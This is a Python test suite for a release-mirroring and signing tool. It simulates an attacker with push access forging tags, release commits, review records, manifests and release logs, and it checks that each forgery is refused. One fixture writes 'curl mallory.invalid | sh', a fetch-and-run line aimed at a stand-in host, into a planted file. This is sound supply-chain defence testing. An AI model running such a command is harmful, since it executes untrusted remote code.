"""Provenance that cannot be forged. On both forges, after sync made a signed release, someone
with push access to the fork but without the release key tries each forgery below; a
first-use `verify` (fresh state, pinned key) must fail naming it, and sync must neither merge,
release nor sign it. Each of these exited 0 (or was signed) before."""

from __future__ import annotations

import json
import os
import sqlite3
import subprocess
from pathlib import Path
from typing import Any

import pygit2
import pytest

from stablectl.gitops.messages import Adapted, adapted_message, is_infrastructure
from stablectl.gitops.signing import sign_file, signing_key_from_env
from tests.controller.sync.test_sync import FORK_SLUG, SyncEnv, make_env
from tests.controller.test_trust import MALLORY, Released, _resum, errors
from tests.helpers import run_cli


def _commit_on(r: Released, parent: str, message: str, tree: str | None = None) -> str:
    return r.git("commit-tree", tree or f"{parent}^{{tree}}", "-p", parent, "-m", message)


def _change_file(r: Released, base: str, path: str, text: str) -> str:
    """A tree: `base`'s with `path` appended `text`."""
    work = r.fresh.parent / "mallory-index"
    env = {**os.environ, **MALLORY, "GIT_INDEX_FILE": str(work)}
    git = ["git", "--git-dir", str(r.env.example.fork)]
    subprocess.run([*git, "read-tree", base], env=env, check=True)
    blob_old = r.git("rev-parse", f"{base}:{path}")
    content = r.git("cat-file", "blob", blob_old) + text
    blob = r.git("hash-object", "-w", "--stdin", input=content)
    subprocess.run(
        [*git, "update-index", "--cacheinfo", f"100644,{blob},{path}"], env=env, check=True
    )
    return subprocess.run(
        [*git, "write-tree"], env=env, capture_output=True, text=True, check=True
    ).stdout.strip()


def test_a_tag_pushed_to_the_fork_is_never_upstream(
    released: Released, capsys: pytest.CaptureFixture[str]
) -> None:
    """Mallory pushes a commit as a tag to the fork, then `cherry-pick -x`s it onto the stable
    branch. The cache used to fetch the fork's tags into refs/tags/*, where upstream's live,
    and verify counted the commit identical to upstream."""
    r = released
    tip = r.git("rev-parse", "3.11.2-stable")
    path = r.git("diff-tree", "--no-commit-id", "--name-only", "-r", f"{tip}~1").split()[0]
    evil = _commit_on(
        r, tip, "gh-2000: harden the parser", _change_file(r, tip, path, "BACKDOOR = 1\n")
    )
    r.git("tag", "v3.11.2-hotfix", evil)
    picked = _commit_on(
        r,
        tip,
        f"gh-2000: harden the parser\n\n(cherry picked from commit {evil})\n",
        f"{evil}^{{tree}}",
    )
    r.git("update-ref", "refs/heads/3.11.2-stable", picked)
    v = r.verify(capsys)
    assert v.code == 1
    found = errors(v)
    assert any(
        e.startswith(picked[:12]) and f"names {evil} which upstream does not have" in e
        for e in found
    ), found
    # And sync, asked to release, holds the series' next release on it.
    done = next(p for p in r.env.new_forge().list_prs("all") if p.marker.kind == "release")
    r.env.comment(done.number, "/stablectl release 3.11.2", "maint")
    report = r.env.sync()
    assert not [a for a in report.applied if a.kind in ("tag", "release", "open")]
    held = [p for p in report.problems if "release held" in p]
    assert held and "upstream does not have" in held[0], report.problems


def test_a_release_commit_pushed_to_the_fork_is_not_signed(
    released: Released, capsys: pytest.CaptureFixture[str]
) -> None:
    """Mallory pushes an empty `Stablectl-Release: 3.11.2.2` commit. sync used to tag and sign
    it with the real key in the same run; now it holds the series, signs nothing, says why."""
    r = released
    tip = r.git("rev-parse", "3.11.2-stable")
    planted = _commit_on(r, tip, "Release 3.11.2.2\n\nStablectl-Release: 3.11.2.2\n")
    r.git("update-ref", "refs/heads/3.11.2-stable", planted)
    os.environ["STABLECTL_SIGNING_KEY"] = str(r.key)
    try:
        report = r.env.sync()
    finally:
        del os.environ["STABLECTL_SIGNING_KEY"]
    assert not [a for a in report.applied if a.kind in ("tag", "release")], report.applied
    assert r.git("tag", "-l", "v3.11.2.2") == ""
    held = [p for p in report.problems if "v3.11.2.2 is not signed" in p]
    assert held and "not the head of a merged release PR" in held[0], report.problems
    # A fresh verify names the untagged release commit.
    found = errors(r.verify(capsys))
    assert any(e.startswith("v3.11.2.2: no tag for the release commit") for e in found), found


def _forge_args(r: Released) -> tuple[str, ...]:
    """How a downstream reads the mirror's reviews: GitHub's API is public; a local forge's
    database is the maintainer's state directory."""
    return ("--forge-state", str(r.env.state)) if r.env.fake is None else ()


def test_an_adaptation_is_bound_to_its_own_review(
    released: Released, capsys: pytest.CaptureFixture[str]
) -> None:
    """A mirror-only change recorded as an adaptation "reviewed in #1": #1 is an approved PR,
    but of another fix. That record used to satisfy verify (any approved PR did); so did an
    unreadable forge (a warning)."""
    r = released
    tip = r.git("rev-parse", "3.11.2-stable")
    prs = {p.number: p for p in r.env.new_forge().list_prs("all")}
    conflict = next(p for p in prs.values() if p.draft and p.marker and p.marker.kind == "backport")
    source = conflict.marker.source if conflict.marker else ""
    path = r.git("diff-tree", "--no-commit-id", "--name-only", "-r", f"{tip}~1").split()[0]
    msg = f"gh-2300: Harden ssl hostname matching\n\n(cherry picked from commit {source})\n"
    plain = _commit_on(r, tip, msg, _change_file(r, tip, path, "TELEMETRY = 1\n"))
    r.git("update-ref", "refs/heads/3.11.2-stable", plain)
    first = r.verify(capsys, *_forge_args(r))
    (adapted,) = first.json()["series"][0]["adapted"]
    assert any("a mirror-only change" in e for e in errors(first)), errors(first)
    # Recorded with the exact interdiff, but naming an approved PR of another fix.
    other = next(
        n
        for n, p in prs.items()
        if p.state == "merged" and p.marker and p.marker.kind == "backport"
    )
    rec = Adapted(source, adapted["lines"], other, adapted["interdiff"])
    recorded = _commit_on(r, tip, adapted_message(msg, rec), f"{plain}^{{tree}}")
    r.git("update-ref", "refs/heads/3.11.2-stable", recorded)
    found = errors(r.verify(capsys, *_forge_args(r)))
    assert any(f"#{other} is not the backport of {source[:12]}" in e for e in found), found
    # Naming the fix's own PR, which no maintainer approved.
    rec = Adapted(source, adapted["lines"], conflict.number, adapted["interdiff"])
    recorded = _commit_on(r, tip, adapted_message(msg, rec), f"{plain}^{{tree}}")
    r.git("update-ref", "refs/heads/3.11.2-stable", recorded)
    found = errors(r.verify(capsys, *_forge_args(r)))
    assert any("no maintainer's latest review approves" in e for e in found), found
    # No forge to read (a local forge's state is not at hand): with signing required, an
    # unchecked review is an error, not a warning.
    if r.env.fake is None:
        v = r.verify(capsys)
        assert any("NOT CHECKED" in e for e in errors(v)), errors(v)
        assert v.json()["unchecked_reviews"] == 1
    # A record whose size or interdiff is not the commit's: changed after review.
    rec = Adapted(source, adapted["lines"], conflict.number, "0" * 64)
    recorded = _commit_on(r, tip, adapted_message(msg, rec), f"{plain}^{{tree}}")
    r.git("update-ref", "refs/heads/3.11.2-stable", recorded)
    found = errors(r.verify(capsys, *_forge_args(r)))
    assert any("changed after review" in e for e in found), found


def test_files_beside_a_release_are_all_checked(
    released: Released, capsys: pytest.CaptureFixture[str]
) -> None:
    """Files named like SHA256SUMS-…, junk signature names and subdirectories used to be
    ignored; a tarball the manifest does not name was never rebuilt."""
    r = released
    d = r.files / "v3.11.2.1"
    (d / "SHA256SUMS-extra").write_text("x")
    (d / "nested").mkdir()
    (d / "nested" / "payload.sh").write_text("curl mallory.invalid | sh\n")
    tarball = next(d.glob("*.tar.xz"))
    (d / tarball.name.replace(".tar.xz", "-full.tar.xz")).write_bytes(tarball.read_bytes())
    found = errors(r.verify(capsys, "--rebuild"))
    assert any("SHA256SUMS-extra: an extra file" in e for e in found), found
    assert any(
        e.endswith("nested: a directory inside a release: nothing may hide there") for e in found
    ) or any("nested" in e and "directory" in e for e in found), found
    assert any("payload.sh: an extra file" in e for e in found), found
    assert any("-full.tar.xz is not a tarball this tag builds" in e for e in found), found


def test_verbatim_is_exact(released: Released, capsys: pytest.CaptureFixture[str]) -> None:
    """A backport changed only in whitespace had the same patch-id as upstream's and passed;
    now the re-pick's tree must be the commit's, byte for byte."""
    r = released
    tip = r.git("rev-parse", "3.11.2-stable")
    backport = r.git("rev-parse", "3.11.2-stable~1")
    path = r.git("diff-tree", "--no-commit-id", "--name-only", "-r", backport).split()[0]
    msg = r.git("log", "-1", "--format=%B", backport)
    parent = r.git("rev-parse", f"{backport}~1")
    blob = r.git("rev-parse", f"{backport}:{path}")
    text = r.git("cat-file", "blob", blob) + "\n"
    work = Path(r.fresh.parent / "ws-index")
    env = {**os.environ, **MALLORY, "GIT_INDEX_FILE": str(work)}
    git = ["git", "--git-dir", str(r.env.example.fork)]
    subprocess.run([*git, "read-tree", backport], env=env, check=True)
    new_blob = r.git("hash-object", "-w", "--stdin", input=text.replace("\n", " \n", 1))
    subprocess.run(
        [*git, "update-index", "--cacheinfo", f"100644,{new_blob},{path}"], env=env, check=True
    )
    tree = subprocess.run(
        [*git, "write-tree"], env=env, capture_output=True, text=True, check=True
    ).stdout.strip()
    evil = _commit_on(r, parent, msg, tree)
    release = _commit_on(r, evil, r.git("log", "-1", "--format=%B", tip))
    r.git("update-ref", "refs/heads/3.11.2-stable", release)
    found = errors(r.verify(capsys))
    assert any(e.startswith(evil[:12]) and "a mirror-only change" in e for e in found), found


def test_the_release_log_is_signed_and_fresh(
    released: Released, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """releases.json used to be unsigned: a log the mirror forged, or an old one it kept
    serving, passed. The feed now signs it with the release key; verify checks the signature
    and, with --log-max-age, how old it is."""
    r = released
    site = r.fresh.parent / "site"
    argv = ["--state-dir", str(r.env.state), "feed", "--policy", str(r.env.policy_path)]
    assert run_cli(capsys, *argv, "--out", str(site)).code == 0
    log = site / "releases.json"
    assert not (site / "releases.json.sig").exists()
    unsigned = errors(r.verify(capsys, "--release-log", str(log)))
    assert any(e.startswith(f"{log}: UNSIGNED") for e in unsigned), unsigned
    monkeypatch.setenv("STABLECTL_SIGNING_KEY", str(r.key))
    assert run_cli(capsys, *argv, "--out", str(site)).code == 0
    monkeypatch.delenv("STABLECTL_SIGNING_KEY")
    assert (site / "releases.json.sig").is_file()
    ok = r.verify(capsys, "--release-log", str(log), "--log-max-age", "24")
    assert ok.code == 0 and ok.json()["release_log_entries"] == 1, errors(ok)
    # A log the mirror edited (a release dropped from it) no longer verifies.
    text = log.read_text()
    log.write_text(text.replace('"releases": [', '"releases": [  ', 1))
    found = errors(r.verify(capsys, "--release-log", str(log)))
    assert any("releases.json.sig: signature" in e for e in found), found
    log.write_text(text)
    # An old log (generated long ago), signed: too old for a daily schedule's downstream.
    data = json.loads(text)
    data["generated"] = "2020-01-01T00:00:00Z"
    log.write_text(json.dumps(data, indent=2, sort_keys=True) + "\n")
    monkeypatch.setenv("STABLECTL_SIGNING_KEY", str(r.key))
    key = signing_key_from_env()
    assert key is not None
    sign_file(log, key)
    monkeypatch.delenv("STABLECTL_SIGNING_KEY")
    found = errors(r.verify(capsys, "--release-log", str(log), "--log-max-age", "24"))
    assert any("the release log was generated" in e for e in found), found


def test_a_version_is_never_signed_twice_even_without_its_forge_release(
    released: Released,
) -> None:
    """The fork rewound under 3.11.2.1, its tag deleted, and its forge release deleted too:
    sync used to propose and sign 3.11.2.1 again with other content. The tags this cache
    signed, and the forge's merged release PRs (which cannot be deleted), still know it."""
    r = released
    r.git("update-ref", "refs/heads/3.11.2-stable", r.git("rev-parse", "3.11.2-stable~1"))
    r.git("tag", "-d", "v3.11.2.1")
    if r.env.fake is None:
        with sqlite3.connect(r.env.state / "forge" / "pyexample.sqlite") as db:
            db.execute("DELETE FROM assets")
            db.execute("DELETE FROM releases")
    else:
        r.env.fake.repos[FORK_SLUG].releases.clear()
    assert r.env.new_forge().get_release("v3.11.2.1") is None
    report = r.env.sync()
    assert any("v3.11.2.1 was signed by this mirror" in p for p in report.problems), report.problems
    assert not any(a.kind in ("tag", "open") for a in report.applied)
    # A new runner without the cache's record: the merged release PR still knows the version.
    cache = pygit2.Repository(str(r.env.state / "cache" / "pyexample.git"))
    for ref in [x for x in cache.references if x.startswith("refs/stablectl/signed/")]:
        cache.references.delete(ref)
    report = r.env.sync()
    assert any(
        "v3.11.2.1 (3.11.2.1) was released through release PR" in p for p in report.problems
    ), report.problems
    assert not any(a.kind in ("tag", "open") for a in report.applied)


def _plant_on_stable(e: SyncEnv, message: str) -> None:
    """Mallory's commit on the stable branch: the tip's tree (no change), `message`."""
    fork = ["git", "--git-dir", str(e.example.fork)]
    tip = subprocess.run(
        [*fork, "rev-parse", "3.11.2-stable"], capture_output=True, text=True, check=True
    ).stdout.strip()
    planted = subprocess.run(
        [*fork, "commit-tree", f"{tip}^{{tree}}", "-p", tip, "-m", message],
        capture_output=True,
        text=True,
        check=True,
        env={**os.environ, **MALLORY},
    ).stdout.strip()
    subprocess.run([*fork, "update-ref", "refs/heads/3.11.2-stable", planted], check=True)


@pytest.mark.parametrize("kind", ["local", "github"])
def test_a_number_in_a_subject_does_not_apply_a_fix(
    kind: str, tmp_path: Path, request: pytest.FixtureRequest
) -> None:
    """A commit pushed to the stable branch whose subject ends in the conflicting fix's
    upstream PR number, "(#2301)", but whose change is something else: sync used to count the
    fix applied and close its conflict PR as closed-applied. A fix is applied when a trailer
    names it or its patch is on the line, never because of a number in a subject."""
    _still_pending(kind, tmp_path, request, "gh-2300: Harden ssl hostname matching (#2301)")


@pytest.mark.parametrize("kind", ["local", "github"])
def test_a_trailer_without_the_change_does_not_apply_a_fix(
    kind: str, tmp_path: Path, request: pytest.FixtureRequest
) -> None:
    """A commit pushed to the stable branch whose trailer names the conflicting fix but whose
    change is something else: the fix is not applied (its PR stays open), because that commit
    does not carry the change it names; verify names it a mirror-only change."""
    _still_pending(
        kind,
        tmp_path,
        request,
        "gh-2300: Harden ssl hostname matching (GH-2301)\n\n(cherry picked from commit {source})\n",
    )


def _still_pending(kind: str, tmp_path: Path, request: pytest.FixtureRequest, msg: str) -> None:
    fake = request.getfixturevalue("fake_github") if kind == "github" else None
    e = make_env(kind, tmp_path, fake, series="3.11.2")
    e.sync()
    conflict = next(p for p in e.open_prs() if p.draft and "gh-2300" in p.title)
    assert conflict.marker is not None
    _plant_on_stable(e, msg.format(source=conflict.marker.source))
    report = e.sync()
    assert conflict.number in [p.number for p in e.open_prs()], report.actions
    assert not [a for a in report.applied if a.kind == "close"], report.applied
    (sp,) = report.plan.series
    states = {pf.candidate.fix.key: pf.candidate.state for pf in sp.fixes}
    assert states[conflict.marker.original] == "pending", states


def _resign_manifest(
    r: Released, d: Path, manifest: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A manifest written with other claims and signed with the real key, as a generator that
    read its claims from the mirror would have signed it."""
    (d / "manifest.json").write_text(json.dumps(manifest, indent=2, sort_keys=True) + "\n")
    _resum(d)
    monkeypatch.setenv("STABLECTL_SIGNING_KEY", str(r.key))
    key = signing_key_from_env()
    assert key is not None
    sign_file(d / "SHA256SUMS", key)
    monkeypatch.delenv("STABLECTL_SIGNING_KEY")


def test_the_manifests_claims_are_recomputed(
    released: Released, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A manifest listing a fix the release does not bring, omitting one it does, or claiming
    a CVE no upstream fact backs is refused, even signed with the real key (a generator that
    read claims from the mirror's own messages, as the old one did)."""
    r = released
    d = r.files / "v3.11.2.1"
    manifest = json.loads((d / "manifest.json").read_text())
    fixes = manifest["fixes"]
    dropped = fixes.pop(0)
    fixes.append({**fixes[0], "commit": "1" * 40, "subject": "gh-9999: a fix never made"})
    fixes[0] = {**fixes[0], "cves": [*fixes[0]["cves"], "CVE-2099-0001"]}
    _resign_manifest(r, d, manifest, monkeypatch)
    found = errors(r.verify(capsys))
    assert any(f"the manifest omits {dropped['commit'][:12]}" in e for e in found), found
    assert any("the manifest lists 111111111111" in e for e in found), found
    assert any("claims CVE-2099-0001" in e and "no upstream fact backs" in e for e in found), found
    assert not any("SHA256SUMS" in e for e in found), found  # the files themselves are fine


def test_infrastructure_is_a_trailer_at_a_lines_start() -> None:
    """`Stablectl-Infrastructure:` anywhere in a message used to hide a commit from the
    manifest, while verify honoured it only at a line's start; one reading now serves both."""
    assert is_infrastructure("ci: workflows\n\nStablectl-Infrastructure: workflows\n")
    assert not is_infrastructure("gh-1: fix\n\nsee Stablectl-Infrastructure: workflows\n")


def test_the_release_review_and_tests_are_checked_on_the_forge(
    released: Released, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """With the forge readable, each release went through its release PR (merged at the tag's
    commit, approved, green), and the manifest's `review` and `tested` are the forge's facts."""
    r = released
    ok = r.verify(capsys, *_forge_args(r))
    assert ok.code == 0, errors(ok)
    (rel,) = ok.json()["series"][0]["releases"]
    assert rel["review_checked"]
    d = r.files / "v3.11.2.1"
    manifest = json.loads((d / "manifest.json").read_text())
    manifest["review"]["approvers"] = [*manifest["review"]["approvers"], "mallory"]
    manifest["tested"]["checks"].append(
        {"name": "full-test-suite", "conclusion": "success", "url": "https://ci.invalid/9"}
    )
    _resign_manifest(r, d, manifest, monkeypatch)
    found = errors(r.verify(capsys, *_forge_args(r)))
    assert any("names mallory as an approver" in e for e in found), found
    assert any("check 'full-test-suite' passed" in e for e in found), found
